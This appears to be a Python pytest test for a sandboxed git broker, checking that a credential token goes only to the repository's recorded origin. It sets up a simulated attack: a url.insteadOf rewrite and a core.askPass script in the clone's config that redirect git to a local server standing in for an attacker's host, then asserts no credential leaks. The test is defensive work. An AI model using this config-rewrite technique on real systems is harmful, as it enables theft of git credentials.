"""The git broker's credential goes only to the rig's origin.

The Refinery may write its clone's ``.git/config``; ``url.<x>.insteadOf``
there rewrites the URL the broker's git (outside the sandbox, with the
credential helper) contacts.  A real git, the real broker request path
(``serve_one`` over a socket pair), a real credential store, and a local
HTTP server standing for the attacker's host that records what it is sent.
"""

from __future__ import annotations

import http.server
import json
import socket
import subprocess
import threading

from town_helpers import make_repo

from gastown_server.sandbox import broker, secrets
from gastown_server.town import rigs

TOKEN = "ghp_only-for-the-rigs-origin-77"


class _Recorder(http.server.BaseHTTPRequestHandler):
    seen: list[str] = []

    def log_message(self, *_a):
        pass

    def do_GET(self):
        _Recorder.seen.append(self.headers.get("Authorization", ""))
        self.send_response(401)
        self.send_header("WWW-Authenticate", 'Basic realm="x"')
        self.send_header("Content-Length", "0")
        self.end_headers()


def test_a_rewritten_remote_url_gets_no_credential(town, tmp_path):
    rigs.add(town, "alpha", str(make_repo(tmp_path / "src")), prefix="al")
    secrets.set_secret(town, "alpha", "git-password", TOKEN)
    attacker = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    try:
        origin = "http://127.0.0.1:9/alpha.git"  # the rig's recorded URL (nothing listens: never reached)
        repo = str(town.root / "alpha" / "repo")
        subprocess.run(["git", "-C", repo, "remote", "set-url", "origin", origin], check=True)
        # What a sandboxed Refinery can write into its clone's config:
        evil = f"http://127.0.0.1:{attacker.server_address[1]}/"
        subprocess.run(["git", "-C", repo, "config", f"url.{evil}.insteadOf", "http://127.0.0.1:9/"], check=True)
        # The broker refuses to run git in a clone whose config says such things:
        marker = tmp_path / "askpass-ran"
        askpass = tmp_path / "askpass.sh"
        askpass.write_text(f"#!/bin/sh\ntouch {marker}\necho x\n")
        askpass.chmod(0o755)
        subprocess.run(["git", "-C", repo, "config", "core.askPass", str(askpass)], check=True)
        reply = _ask(repo, origin, town)
        assert reply["rc"] == 128 and "the clone's config sets core.askpass" in reply["stderr"], reply
        assert "\n" not in reply["stderr"].strip() and not _Recorder.seen and not marker.exists()
        subprocess.run(["git", "-C", repo, "config", "--unset-all", "core.askPass"], check=True)
        reply = _ask(repo, origin, town)
        assert "the clone's config sets url." in reply["stderr"], reply
        assert not _Recorder.seen and not marker.exists()
        # ...and, should git still be sent elsewhere, the credential helper answers only for the origin.
        argv = broker.git_argv(["fetch", "origin"], url=evil + "alpha.git", configured_url=evil + "alpha.git",
                               town=str(town.root), rig="alpha")  # fmt: skip
        helper = next(a for a in argv if a.startswith("credential.helper=!"))
        argv[argv.index(helper)] = helper.replace(f"--url {evil}alpha.git", f"--url {origin}")
        out = subprocess.run(argv, cwd=repo, capture_output=True, text=True, env=broker._git_env(), timeout=60)
    finally:
        attacker.shutdown()
    assert _Recorder.seen, out.stderr  # git did go to the other host...
    assert not any(h for h in _Recorder.seen), _Recorder.seen  # ...and sent it no credential
    assert "is not rig alpha's origin" in out.stderr, out.stderr


def _ask(repo, origin, town):
    ours, theirs = socket.socketpair()
    t = threading.Thread(target=broker.serve_one, args=(ours,), daemon=True,
                         kwargs=dict(repo=repo, url=origin, town=str(town.root), rig="alpha", env=broker._git_env()))  # fmt: skip
    t.start()
    theirs.sendall(json.dumps({"args": ["fetch", "origin"], "timeout": 60}).encode() + b"\n")
    reply = json.loads(theirs.makefile().readline())
    t.join(60)
    return reply
